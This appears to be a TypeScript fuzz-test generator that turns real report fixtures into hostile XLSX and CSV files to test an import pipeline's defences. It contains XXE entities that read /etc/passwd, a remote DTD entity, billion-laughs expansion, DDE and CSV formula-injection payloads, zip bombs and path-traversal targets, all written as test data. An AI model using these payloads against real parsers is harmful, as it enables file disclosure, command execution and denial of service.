import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { configSchema } from '../../config/schema.js';
import type { ReportKind } from '../../src/jobs/import-pipeline.js';
import { headerKey } from '../../src/rules/import/layout.js';
import { mulberry32 } from '../../src/rules/random.js';
import { buildZip, deflatedRepeat, readZip, type ZipEntrySpec } from './zip.js';

/**
 * Hostile report files made from the repo's real ones (`test/fixtures/libreoffice`: CDB, A2
 * and Pra WO exports, the `.xlsx` written by LibreOffice headless): cut, bit-flipped,
 * re-encoded, blown up, given entities, formulas and misspelt headers. Each file comes from
 * a kind and a 32-bit seed alone, so a failure is made again with `--case <kind>:<seed>`.
 */

export const FUZZ_KINDS = [
  'truncate',
  'bit-flip',
  'part-bit-flip',
  'part-truncate',
  'csv-encoding',
  'xlsx-encoding',
  'huge-cell',
  'wide-sheet',
  'wide-csv',
  'zip-bomb',
  'xml-entities',
  'formulas',
  'headers-misspelt',
  'empty',
  'not-a-sheet',
  'xlsx-structure',
  'cell-garbage',
  'many-rows',
] as const;
export type FuzzKind = (typeof FUZZ_KINDS)[number];

export interface FuzzCase {
  kind: FuzzKind;
  seed: number;
  /** What the kind chose to do, for the failure line (`utf-16be without BOM`). */
  variant: string;
  reportKind: ReportKind;
  fileName: string;
  bytes: Buffer;
  /** Where the outcome is certain: the file must be refused (with one of these problems). */
  mustRefuse?: readonly string[];
  /** Text that must reach no output: a file an entity names, a formula that was only a formula. */
  mustNotLeak?: readonly string[];
}

interface Seed {
  name: string;
  reportKind: ReportKind;
  format: 'xlsx' | 'csv';
  bytes: Buffer;
}

const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'libreoffice');
let seedCache: Seed[] | undefined;

/** The valid reports the files are made from. */
export function seeds(): Seed[] {
  seedCache ??= readdirSync(FIXTURES)
    .filter((name) => /\.(xlsx|csv)$/.test(name))
    .sort()
    .map((name) => ({
      name,
      reportKind: name.startsWith('a2') ? 'a2' : name.startsWith('pra-wo') ? 'wor' : 'cdb',
      format: name.endsWith('.xlsx') ? 'xlsx' : 'csv',
      bytes: readFileSync(join(FIXTURES, name)),
    }));
  return seedCache;
}

const COLUMNS = configSchema.parse({ odoo: { url: 'http://odoo.invalid', db: 'x', apiKey: 'k' } }).import;

/** Every header alias the config knows for a report kind, as `headerKey` compares them. */
function aliasKeys(kind: ReportKind): Set<string> {
  const columns =
    kind === 'cdb' ? COLUMNS.cdbColumns : kind === 'a2' ? COLUMNS.a2Columns : COLUMNS.worColumns;
  return new Set(Object.values(columns).flatMap((names) => (names as string[]).map(headerKey)));
}

/** Dice from a seed. */
class Dice {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  int(low: number, high: number): number {
    return low + Math.floor(this.next() * (high - low + 1));
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)] as T;
  }
  chance(probability: number): boolean {
    return this.next() < probability;
  }
}

/** The seed of the `index`-th file of a run (splitmix-like, so nearby indexes differ in every bit). */
export function caseSeed(runSeed: number, index: number): number {
  let value = (runSeed ^ Math.imul(index + 1, 0x9e3779b9)) >>> 0;
  value = Math.imul(value ^ (value >>> 16), 0x85ebca6b) >>> 0;
  value = Math.imul(value ^ (value >>> 13), 0xc2b2ae35) >>> 0;
  return (value ^ (value >>> 16)) >>> 0;
}

export function generateCase(kind: FuzzKind, seed: number): FuzzCase {
  const dice = new Dice(seed);
  const made = MAKERS[kind](dice);
  return { kind, seed, ...made };
}

type Made = Omit<FuzzCase, 'kind' | 'seed'>;

function xlsxSeeds(): Seed[] {
  return seeds().filter((seed) => seed.format === 'xlsx');
}
function csvSeeds(): Seed[] {
  return seeds().filter((seed) => seed.format === 'csv');
}

function made(seed: Seed, variant: string, bytes: Buffer, extra: Partial<Made> = {}): Made {
  return {
    variant: `${seed.name}: ${variant}`,
    reportKind: seed.reportKind,
    fileName: seed.name,
    bytes,
    ...extra,
  };
}

type Parts = Array<{ name: string; data: Buffer }>;

function partsOf(seed: Seed): Parts {
  return readZip(seed.bytes);
}

function zipOf(parts: Parts): Buffer {
  return buildZip(parts.map((part) => ({ name: part.name, data: part.data })));
}

function withPart(parts: Parts, name: string, change: (text: string) => string | Buffer): Parts {
  return parts.map((part) => {
    if (part.name !== name) return part;
    const changed = change(part.data.toString('utf8'));
    return { name: part.name, data: typeof changed === 'string' ? Buffer.from(changed) : changed };
  });
}

const SHEET = 'xl/worksheets/sheet1.xml';
const STRINGS = 'xl/sharedStrings.xml';
const MAIN_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

function escapeXml(text: string): string {
  return text.replace(
    /[<>&"]/g,
    (char) => ({ '<': '&lt;', '>': '&gt;', '&': '&amp;', '"': '&quot;' })[char] ?? char,
  );
}

/** A seed's rows of cells, for CSV seeds (the fixtures are `;`-separated and unquoted). */
function csvRows(seed: Seed): string[][] {
  return seed.bytes
    .toString('utf8')
    .replace(/^\uFEFF/, '')
    .split(/\r?\n/)
    .filter((line) => line !== '')
    .map((line) => line.split(';'));
}

function csvCell(text: string): string {
  return /[";\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

function csvText(rows: readonly (readonly string[])[]): string {
  return `${rows.map((row) => row.map(csvCell).join(';')).join('\r\n')}\r\n`;
}

/** A one-letter slip in a header that makes it no alias any more (and no other alias either). */
function misspell(text: string, aliases: ReadonlySet<string>, dice: Dice): string {
  for (let attempt = 0; attempt < 20; attempt += 1) {
    const letters = [...text];
    const positions = letters.flatMap((char, at) => (/[a-z0-9]/i.test(char) ? [at] : []));
    const at = dice.pick(positions.length > 0 ? positions : [0]);
    const slip = dice.int(0, 3);
    if (slip === 0 && at + 1 < letters.length)
      [letters[at], letters[at + 1]] = [letters[at + 1] as string, letters[at] as string];
    else if (slip === 1) letters.splice(at, 1);
    else if (slip === 2) letters.splice(at, 0, letters[at] ?? 'x');
    else letters[at] = dice.pick(['q', 'x', 'z', 'j', 'v']);
    const spelt = letters.join('');
    const key = headerKey(spelt);
    if (key !== headerKey(text) && !aliases.has(key)) return spelt;
  }
  return `${text} qx`;
}

const FORMULAS = [
  '=HYPERLINK("http://x","y")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1+1)',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  "=cmd|'/c calc'!A1",
  '=IMPORTXML("http://x","//a")',
];

/** Formulas in every text cell of the data rows; the header (named by an alias) is kept. */
function formulaRows(rows: string[][], aliases: ReadonlySet<string>, dice: Dice): string[][] {
  return rows.map((row) =>
    aliases.has(headerKey(row[0] ?? '')) || row.some((cell) => aliases.has(headerKey(cell)))
      ? row
      : row.map((cell) =>
          /[a-z]/i.test(cell)
            ? dice.chance(0.7)
              ? dice.pick(FORMULAS)
              : `${dice.pick(FORMULAS)}${cell}`
            : cell,
        ),
  );
}

const SECRET_FILE = '/etc/passwd';
/** The first line of /etc/passwd begins so on every Linux: no output may hold it. */
const SECRET_TEXT = 'root:x:0:0';

const MAKERS: Readonly<Record<FuzzKind, (dice: Dice) => Made>> = {
  truncate(dice) {
    const seed = dice.pick(seeds());
    const cut = dice.int(1, seed.bytes.length - 1);
    return made(seed, `cut at ${cut} of ${seed.bytes.length}`, seed.bytes.subarray(0, cut));
  },

  'bit-flip'(dice) {
    const seed = dice.pick(seeds());
    const bytes = Buffer.from(seed.bytes);
    const flips = dice.int(1, 24);
    for (let index = 0; index < flips; index += 1) {
      const at = dice.int(0, bytes.length - 1);
      bytes[at] = (bytes[at] as number) ^ (1 << dice.int(0, 7));
    }
    return made(seed, `${flips} bits flipped`, bytes);
  },

  'part-bit-flip'(dice) {
    const seed = dice.pick(xlsxSeeds());
    const parts = partsOf(seed);
    const part = dice.pick(
      parts.filter((candidate) => candidate.name.endsWith('.xml') || candidate.name.endsWith('.rels')),
    );
    const data = Buffer.from(part.data);
    const flips = dice.int(1, 12);
    for (let index = 0; index < flips; index += 1) {
      const at = dice.int(0, data.length - 1);
      data[at] = (data[at] as number) ^ (1 << dice.int(0, 7));
    }
    return made(
      seed,
      `${flips} bits flipped inside ${part.name}`,
      zipOf(parts.map((candidate) => (candidate === part ? { name: part.name, data } : candidate))),
    );
  },

  'part-truncate'(dice) {
    const seed = dice.pick(xlsxSeeds());
    const parts = partsOf(seed);
    const part = dice.pick(parts.filter((candidate) => candidate.name.startsWith('xl/')));
    const cut = dice.int(0, part.data.length - 1);
    return made(
      seed,
      `${part.name} cut at ${cut} of ${part.data.length}`,
      zipOf(
        parts.map((candidate) =>
          candidate === part ? { name: part.name, data: part.data.subarray(0, cut) } : candidate,
        ),
      ),
    );
  },

  'csv-encoding'(dice) {
    const seed = dice.pick(csvSeeds());
    const text = seed.bytes.toString('utf8').replace(/^\uFEFF/, '');
    const encoding = dice.pick([
      'utf-16le',
      'utf-16be',
      'windows-1252',
      'latin1-mixed',
      'utf-8-bom',
      'utf-16le-odd',
    ]);
    const bom = dice.chance(0.5);
    let bytes: Buffer;
    if (encoding === 'utf-16le' || encoding === 'utf-16be') {
      const little = Buffer.from(text, 'utf16le');
      const body = encoding === 'utf-16le' ? little : Buffer.from(little).swap16();
      const mark = encoding === 'utf-16le' ? [0xff, 0xfe] : [0xfe, 0xff];
      bytes = bom ? Buffer.concat([Buffer.from(mark), body]) : body;
    } else if (encoding === 'windows-1252') bytes = Buffer.from(text.replace(/É/g, 'É'), 'latin1');
    else if (encoding === 'latin1-mixed') {
      // Half the file as UTF-8, the rest as Latin-1: a file appended to on two machines.
      const half = Math.floor(text.length / 2);
      bytes = Buffer.concat([
        Buffer.from(text.slice(0, half), 'utf8'),
        Buffer.from(`${text.slice(half)}Ãé\xff\xfe`, 'latin1'),
      ]);
    } else if (encoding === 'utf-16le-odd')
      bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le'), Buffer.from([0x41])]);
    else bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
    return made(seed, `${encoding}${bom ? ' with BOM' : ''}`, bytes);
  },

  'xlsx-encoding'(dice) {
    const seed = dice.pick(xlsxSeeds());
    const variant = dice.pick([
      'latin1-strings',
      'utf16le-bom-strings',
      'utf16be-bom-sheet',
      'utf16le-nobom-sheet',
      'declared-utf16',
      'cp1252-workbook',
    ]);
    const parts = partsOf(seed);
    let changed: Parts;
    switch (variant) {
      case 'latin1-strings':
        changed = withPart(parts, STRINGS, (xml) =>
          Buffer.from(xml.replace(/<t( [^>]*)?>/g, '$&Ñoño Müller '), 'latin1'),
        );
        break;
      case 'utf16le-bom-strings':
        changed = withPart(parts, STRINGS, (xml) =>
          Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]),
        );
        break;
      case 'utf16be-bom-sheet':
        changed = withPart(parts, SHEET, (xml) =>
          Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(xml, 'utf16le').swap16()]),
        );
        break;
      case 'utf16le-nobom-sheet':
        changed = withPart(parts, SHEET, (xml) => Buffer.from(xml, 'utf16le'));
        break;
      case 'declared-utf16':
        changed = withPart(parts, SHEET, (xml) => xml.replace('encoding="UTF-8"', 'encoding="UTF-16"'));
        break;
      default:
        changed = withPart(parts, 'xl/workbook.xml', (xml) =>
          Buffer.from(xml.replace(/name="([^"]*)"/, 'name="Lembar Ñ $1"'), 'latin1'),
        );
    }
    return made(seed, variant, zipOf(changed));
  },

  'huge-cell'(dice) {
    const seed = dice.pick(seeds());
    const size = dice.pick([40_000, 1_000_000, 3_000_000, 6_000_000]);
    const filler = dice.pick(['A', 'é', '0', ' ', '<', '"', ';']);
    const huge = filler.repeat(Math.ceil(size / filler.length)).slice(0, size);
    if (seed.format === 'csv') {
      const rows = csvRows(seed);
      const row = dice.int(0, rows.length - 1);
      const cells = rows[row] as string[];
      cells[dice.int(0, cells.length - 1)] = huge;
      return made(
        seed,
        `a cell of ${size} × ${JSON.stringify(filler)} in line ${row + 1}`,
        Buffer.from(csvText(rows)),
      );
    }
    const inline = dice.chance(0.5);
    const parts = inline
      ? withPart(partsOf(seed), SHEET, (xml) =>
          xml.replace(/(<row [^>]*>)/, `$1<c r="A9" t="inlineStr"><is><t>${escapeXml(huge)}</t></is></c>`),
        )
      : withPart(partsOf(seed), STRINGS, (xml) => xml.replace(/(<si><t[^>]*>)/, `$1${escapeXml(huge)}`));
    return made(
      seed,
      `${inline ? 'an inline' : 'a shared'} string of ${size} × ${JSON.stringify(filler)}`,
      zipOf(parts),
    );
  },

  'wide-sheet'(dice) {
    const seed = dice.pick(xlsxSeeds());
    const variant = dice.pick([
      'ref ZZZZ',
      'ref XFE',
      'ref absurd',
      'dimension lies',
      'million cells',
      'cells past XFD',
    ]);
    const parts = withPart(partsOf(seed), SHEET, (xml) => {
      switch (variant) {
        case 'ref ZZZZ':
          return xml.replace(/<c r="A(\d+)"/g, '<c r="ZZZZ$1"');
        case 'ref XFE':
          return xml.replace(/(<row [^>]*>)/g, '$1<c r="XFE1" t="inlineStr"><is><t>x</t></is></c>');
        case 'ref absurd':
          return xml.replace(/<c r="B(\d+)"/g, '<c r="ZZZZZZZZZZZZZZZZZZZZ$1"');
        case 'dimension lies':
          return xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>');
        case 'million cells':
          // A row of cells without references: the reader counts them itself.
          return xml.replace(
            /(<row [^>]*>)/,
            `$1${'<c t="inlineStr"><is><t>a</t></is></c>'.repeat(dice.pick([20_000, 1_000_000]))}`,
          );
        default:
          return xml.replace(
            /(<row [^>]*>)/,
            `$1${Array.from({ length: 20 }, (_, at) => `<c r="${columnName(16_380 + at)}5"><v>${at}</v></c>`).join('')}`,
          );
      }
    });
    return made(seed, variant, zipOf(parts));
  },

  'wide-csv'(dice) {
    const seed = dice.pick(csvSeeds());
    const rows = csvRows(seed);
    const separators = dice.pick([20_000, 1_000_000]);
    const row = dice.int(0, rows.length - 1);
    const wide = (rows[row] as string[]).join(';') + ';'.repeat(separators);
    const lines = rows.map((cells, at) => (at === row ? wide : cells.join(';')));
    return made(
      seed,
      `${separators} separators on line ${row + 1}`,
      Buffer.from(`${lines.join('\r\n')}\r\n`),
    );
  },

  'zip-bomb'(dice) {
    const seed = dice.pick(xlsxSeeds());
    const parts = partsOf(seed);
    const variant = dice.pick([
      'sheet of spaces',
      'sheet of rows',
      'shared string of As',
      'styles of zeros',
      'sizes that lie',
      'declared huge',
      'many entries',
      'nested bomb',
      'rows sharing a huge string',
    ]);
    // A bomb declares its inflated size, or a small one (a lie only the inflating shows).
    const lie = dice.chance(0.5) ? { declaredSize: dice.pick([1_000, 100_000, 4_000_000]) } : {};
    const replace = (name: string, entry: ZipEntrySpec): Buffer =>
      buildZip(
        parts.map((part) =>
          part.name === name
            ? { ...(entry.deflated ? lie : {}), ...entry }
            : { name: part.name, data: part.data },
        ),
      );
    const mib = Buffer.alloc(1 << 20, ' ');
    let bytes: Buffer;
    switch (variant) {
      case 'sheet of spaces':
        bytes = replace(SHEET, {
          name: SHEET,
          deflated: deflatedRepeat(
            `<worksheet xmlns="${MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>`,
            mib,
            dice.pick([300, 1000]),
            '</t></is></c></row></sheetData></worksheet>',
          ),
        });
        break;
      case 'sheet of rows': {
        const row = Buffer.from(
          '<row><c t="inlineStr"><is><t>JM31E1234567</t></is></c></row>'.repeat(16_384),
        );
        bytes = replace(SHEET, {
          name: SHEET,
          deflated: deflatedRepeat(
            `<worksheet xmlns="${MAIN_NS}"><sheetData>`,
            row,
            dice.pick([64, 1024]),
            '</sheetData></worksheet>',
          ),
        });
        break;
      }
      case 'shared string of As':
        bytes = replace(STRINGS, {
          name: STRINGS,
          deflated: deflatedRepeat(
            `<sst xmlns="${MAIN_NS}"><si><t>`,
            Buffer.alloc(1 << 20, 'A'),
            dice.pick([200, 1500]),
            '</t></si></sst>',
          ),
        });
        break;
      case 'styles of zeros':
        bytes = replace('xl/styles.xml', {
          name: 'xl/styles.xml',
          deflated: deflatedRepeat(
            `<styleSheet xmlns="${MAIN_NS}">`,
            Buffer.alloc(1 << 20, 0x30),
            200,
            '</styleSheet>',
          ),
        });
        break;
      case 'sizes that lie': {
        const sheet = parts.find((part) => part.name === SHEET)?.data ?? Buffer.alloc(0);
        const inflated = Buffer.concat([
          sheet.subarray(0, sheet.lastIndexOf('</sheetData>')),
          Buffer.from(' '.repeat(8 << 20)),
          Buffer.from('</sheetData></worksheet>'),
        ]);
        bytes = replace(SHEET, { name: SHEET, data: inflated, declaredSize: dice.pick([100, sheet.length]) });
        break;
      }
      case 'declared huge':
        bytes = replace(SHEET, {
          name: SHEET,
          data: parts.find((part) => part.name === SHEET)?.data ?? Buffer.alloc(0),
          declaredSize: 0xfffffff0,
        });
        break;
      case 'many entries': {
        const count = dice.pick([20_000, 65_000]);
        bytes = buildZip([
          ...parts.map((part) => ({ name: part.name, data: part.data })),
          ...Array.from({ length: count }, (_, at) => ({
            name: `xl/media/empty${at}.bin`,
            data: Buffer.alloc(0),
            stored: true,
          })),
        ]);
        break;
      }
      case 'rows sharing a huge string': {
        // One string just under a cell's limit, used by every row: each row's issue must not copy it.
        const strings = `<sst xmlns="${MAIN_NS}"><si><t>No Mesin</t></si><si><t>Tgl Beli</t></si><si><t>No WO</t></si><si><t>Tanggal</t></si><si><t>Nama Pembawa</t></si><si><t>${'Q'.repeat(32_000)}</t></si></sst>`;
        const header =
          '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c><c r="E1" t="s"><v>4</v></c></row>';
        const rows = Array.from(
          { length: dice.pick([20_000, 60_000]) },
          (_, at) =>
            `<row r="${at + 2}"><c t="s"><v>5</v></c><c t="s"><v>5</v></c><c><v>${at}</v></c><c t="s"><v>5</v></c><c t="s"><v>5</v></c></row>`,
        ).join('');
        bytes = buildZip([
          ...parts
            .filter((part) => part.name !== SHEET && part.name !== STRINGS)
            .map((part) => ({ name: part.name, data: part.data })),
          { name: STRINGS, data: Buffer.from(strings) },
          {
            name: SHEET,
            data: Buffer.from(
              `<worksheet xmlns="${MAIN_NS}"><sheetData>${header}${rows}</sheetData></worksheet>`,
            ),
          },
        ]);
        return made(seed, variant, bytes);
      }
      default: {
        // A zip inside the zip: the sheet's part is itself a bomb's container.
        const inner = buildZip([{ name: 'bomb.xml', deflated: deflatedRepeat('<a>', mib, 500, '</a>') }]);
        bytes = replace(SHEET, { name: SHEET, data: inner });
      }
    }
    return made(seed, variant, bytes, { mustRefuse: ['too_large', 'truncated', 'malformed', 'over_limit'] });
  },

  'xml-entities'(dice) {
    const seed = dice.pick(xlsxSeeds());
    const variant = dice.pick([
      'billion laughs in strings',
      'billion laughs in sheet',
      'xxe in strings',
      'xxe in sheet',
      'xxe in workbook',
      'parameter entity',
      'doctype in rels',
    ]);
    const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`).join('')}]>`;
    const xxe = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://${SECRET_FILE}">]>`;
    const addDoctype = (xml: string, doctype: string) => xml.replace(/(<\?xml[^>]*\?>\s*)?/, `$1${doctype}`);
    let parts = partsOf(seed);
    switch (variant) {
      case 'billion laughs in strings':
        parts = withPart(parts, STRINGS, (xml) =>
          addDoctype(xml, laughs).replace(/<t( [^>]*)?>/g, '$&&lol9;'),
        );
        break;
      case 'billion laughs in sheet':
        parts = withPart(parts, SHEET, (xml) =>
          addDoctype(xml, laughs).replace(
            /(<row [^>]*>)/,
            '$1<c r="Z1" t="inlineStr"><is><t>&lol9;</t></is></c>',
          ),
        );
        break;
      case 'xxe in strings':
        parts = withPart(parts, STRINGS, (xml) => addDoctype(xml, xxe).replace(/<t( [^>]*)?>/g, '$&&xxe;'));
        break;
      case 'xxe in sheet':
        parts = withPart(parts, SHEET, (xml) =>
          addDoctype(xml, xxe).replace(
            /(<row [^>]*>)/,
            '$1<c r="Z1" t="inlineStr"><is><t>&xxe;</t></is></c>',
          ),
        );
        break;
      case 'xxe in workbook':
        parts = withPart(parts, 'xl/workbook.xml', (xml) =>
          addDoctype(xml, xxe).replace(/name="[^"]*"/, 'name="&xxe;"'),
        );
        break;
      case 'parameter entity':
        parts = withPart(parts, STRINGS, (xml) =>
          addDoctype(xml, `<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://fuzz.invalid/evil.dtd">%remote;]>`),
        );
        break;
      default:
        parts = withPart(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
          addDoctype(xml, xxe).replace(/Target="worksheets\/sheet1.xml"/, 'Target="&xxe;"'),
        );
    }
    return made(seed, variant, zipOf(parts), {
      mustRefuse: ['doctype'],
      mustNotLeak: [SECRET_TEXT, 'lollollol'],
    });
  },

  formulas(dice) {
    const seed = dice.pick(seeds());
    const aliases = aliasKeys(seed.reportKind);
    if (seed.format === 'csv')
      return made(
        seed,
        'a formula in every text cell',
        Buffer.from(csvText(formulaRows(csvRows(seed), aliases, dice))),
      );
    if (dice.chance(0.5)) {
      const parts = withPart(partsOf(seed), STRINGS, (xml) =>
        xml.replace(/(<t[^>]*>)([^<]*)(<\/t>)/g, (whole, open: string, text: string, close: string) =>
          aliases.has(headerKey(text))
            ? whole
            : `${open}${escapeXml(dice.pick(FORMULAS))}${dice.chance(0.3) ? text : ''}${close}`,
        ),
      );
      return made(seed, 'a formula in every shared string', zipOf(parts));
    }
    // Formula cells: Excel keeps the formula in <f> and its last result in <v>; only the result may be read.
    const marker = 'fuzz-formula-only';
    const parts = withPart(partsOf(seed), SHEET, (xml) =>
      xml.replace(
        /<c r="([A-Z]+)([4-9]\d*)"([^>]*)t="s"([^>]*)><v>\d+<\/v><\/c>/g,
        (_whole, column: string, row: string) =>
          `<c r="${column}${row}" t="str"><f>HYPERLINK("http://${marker}.invalid","y")</f><v>=HYPERLINK("http://x","y")</v></c>`,
      ),
    );
    return made(seed, 'formula cells with a formula for a cached value', zipOf(parts), {
      mustNotLeak: [marker],
    });
  },

  'headers-misspelt'(dice) {
    const seed = dice.pick(seeds());
    const aliases = aliasKeys(seed.reportKind);
    if (seed.format === 'csv') {
      const rows = csvRows(seed).map((row) =>
        row.map((cell) => (aliases.has(headerKey(cell)) ? misspell(cell, aliases, dice) : cell)),
      );
      return made(seed, 'every header alias misspelt', Buffer.from(csvText(rows)), {
        mustRefuse: ['no_header'],
      });
    }
    const parts = withPart(partsOf(seed), STRINGS, (xml) =>
      xml.replace(/(<t[^>]*>)([^<]*)(<\/t>)/g, (whole, open: string, text: string, close: string) =>
        aliases.has(headerKey(text)) ? `${open}${escapeXml(misspell(text, aliases, dice))}${close}` : whole,
      ),
    );
    return made(seed, 'every header alias misspelt', zipOf(parts), { mustRefuse: ['no_header'] });
  },

  empty(dice) {
    const seed = dice.pick(seeds());
    const variant = dice.pick([
      'zero bytes',
      'whitespace',
      'BOM only',
      'UTF-16 BOM only',
      'newlines',
      'separators only',
      'empty zip',
      'title only',
    ]);
    const bytes: Record<string, Buffer> = {
      'zero bytes': Buffer.alloc(0),
      whitespace: Buffer.from('   \t  \r\n  '),
      'BOM only': Buffer.from([0xef, 0xbb, 0xbf]),
      'UTF-16 BOM only': Buffer.from([0xff, 0xfe]),
      newlines: Buffer.from('\r\n'.repeat(dice.int(1, 5000))),
      'separators only': Buffer.from(';;;;;;;;;\r\n'.repeat(dice.int(1, 50))),
      'empty zip': buildZip([]),
      'title only': Buffer.from('LAPORAN CDB\r\n'),
    };
    return made(seed, variant, bytes[variant] as Buffer, {
      mustRefuse: ['empty', 'no_header', 'no_sheet', 'binary', 'truncated'],
    });
  },

  'not-a-sheet'(dice) {
    const seed = dice.pick(seeds());
    const variant = dice.pick([
      'pdf',
      'png',
      'jpeg',
      'gif',
      'gzip',
      'docx',
      'ods',
      'elf',
      'random',
      'xls97',
      'html',
    ]);
    const noise = Buffer.from(Array.from({ length: dice.int(512, 8192) }, () => dice.int(0, 255)));
    const heads: Record<string, Buffer> = {
      pdf: Buffer.concat([
        Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n', 'latin1'),
        noise,
      ]),
      png: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), noise]),
      jpeg: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), noise]),
      gif: Buffer.concat([Buffer.from('GIF89a'), noise]),
      gzip: Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), noise]),
      docx: buildZip([
        { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
        {
          name: 'word/document.xml',
          data: Buffer.from(`<w:document xmlns:w="x"><w:body>No Mesin</w:body></w:document>`),
        },
      ]),
      ods: buildZip([
        {
          name: 'mimetype',
          data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'),
          stored: true,
        },
        { name: 'content.xml', data: Buffer.from('<office:document-content/>') },
      ]),
      elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), noise]),
      random: noise,
      xls97: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), noise]),
      html: Buffer.from(
        '<html><body><table><tr><td>No Mesin</td><td>Tgl Beli</td></tr></table></body></html>',
      ),
    };
    const name = `${variant === 'docx' ? 'laporan' : seed.name.replace(/\.\w+$/, '')}.${dice.pick(['xlsx', 'csv', 'xls'])}`;
    return {
      variant: `${variant} named ${name}`,
      reportKind: seed.reportKind,
      fileName: name,
      bytes: heads[variant] as Buffer,
      mustRefuse: [
        'binary',
        'legacy_xls',
        'html_disguised',
        'no_sheet',
        'no_header',
        'truncated',
        'malformed',
        'empty',
      ],
    };
  },

  'xlsx-structure'(dice) {
    const seed = dice.pick(xlsxSeeds());
    const variant = dice.pick([
      'no workbook',
      'no rels',
      'no sheet',
      'no shared strings',
      'rels to nowhere',
      'rels climbing out',
      'string index out of range',
      'string index negative',
      'string index huge',
      'two entries one name',
      'row numbers odd',
      'merges everywhere',
      'merges of the whole sheet',
      'sheet named oddly',
      'bad date cells',
      'encrypted flag',
    ]);
    let parts = partsOf(seed);
    let bytes: Buffer | undefined;
    switch (variant) {
      case 'no workbook':
        parts = parts.filter((part) => part.name !== 'xl/workbook.xml');
        break;
      case 'no rels':
        parts = parts.filter((part) => part.name !== 'xl/_rels/workbook.xml.rels');
        break;
      case 'no sheet':
        parts = parts.filter((part) => part.name !== SHEET);
        break;
      case 'no shared strings':
        parts = parts.filter((part) => part.name !== STRINGS);
        break;
      case 'rels to nowhere':
        parts = withPart(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
          xml.replace(/Target="worksheets\/sheet1.xml"/, 'Target="worksheets/nowhere.xml"'),
        );
        break;
      case 'rels climbing out':
        parts = withPart(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
          xml
            .replace(/Target="sharedStrings.xml"/, `Target="../../../../../../..${SECRET_FILE}"`)
            .replace(/Target="worksheets\/sheet1.xml"/, 'Target="/../../etc/hostname"'),
        );
        break;
      case 'string index out of range':
        parts = withPart(parts, SHEET, (xml) =>
          xml.replace(/t="s"([^>]*)><v>\d+<\/v>/g, 't="s"$1><v>99999999</v>'),
        );
        break;
      case 'string index negative':
        parts = withPart(parts, SHEET, (xml) =>
          xml.replace(/t="s"([^>]*)><v>\d+<\/v>/g, 't="s"$1><v>-3</v>'),
        );
        break;
      case 'string index huge':
        parts = withPart(parts, SHEET, (xml) =>
          xml.replace(
            /t="s"([^>]*)><v>\d+<\/v>/g,
            () => `t="s"><v>${dice.pick(['1e308', 'NaN', '4294967296', '1.5', ''])}</v>`,
          ),
        );
        break;
      case 'two entries one name':
        parts = [
          ...parts,
          { name: SHEET, data: Buffer.from(`<worksheet xmlns="${MAIN_NS}"><sheetData/></worksheet>`) },
        ];
        break;
      case 'row numbers odd':
        parts = withPart(parts, SHEET, (xml) =>
          xml.replace(
            /<row r="(\d+)"/g,
            () => `<row r="${dice.pick(['0', '-5', '1e9', 'x', '99999999999999999999', '1048577'])}"`,
          ),
        );
        break;
      case 'merges everywhere': {
        const merges = Array.from(
          { length: dice.pick([5_000, 200_000]) },
          (_, at) => `<mergeCell ref="A${at + 1}:IV${at + 2}"/>`,
        ).join('');
        parts = withPart(parts, SHEET, (xml) =>
          xml.replace('</sheetData>', `</sheetData><mergeCells count="1">${merges}</mergeCells>`),
        );
        break;
      }
      case 'merges of the whole sheet':
        parts = withPart(parts, SHEET, (xml) =>
          xml.replace(
            '</sheetData>',
            `</sheetData><mergeCells count="3"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:A1048576"/><mergeCell ref="ZZZZZ1:A1"/></mergeCells>`,
          ),
        );
        break;
      case 'sheet named oddly':
        parts = withPart(parts, 'xl/workbook.xml', (xml) =>
          xml.replace(
            /name="[^"]*"/,
            `name="${dice.pick(['', '=cmd', '&#0;x', 'a'.repeat(100_000), '../../x', '&#x110000;', '&#99999999999;'])}"`,
          ),
        );
        break;
      case 'bad date cells':
        parts = withPart(parts, SHEET, (xml) =>
          xml.replace(
            /(<row [^>]*>)/g,
            () =>
              `$1<c r="Y1" t="d"><v>${dice.pick(['9999-99-99', '2025-02-30T25:61:61Z', '', 'x'])}</v></c><c r="X1" s="${dice.pick(['1', '99999', '-1'])}"><v>${dice.pick(['1e308', '-1e308', '2958466', '-1', '0.5'])}</v></c>`,
          ),
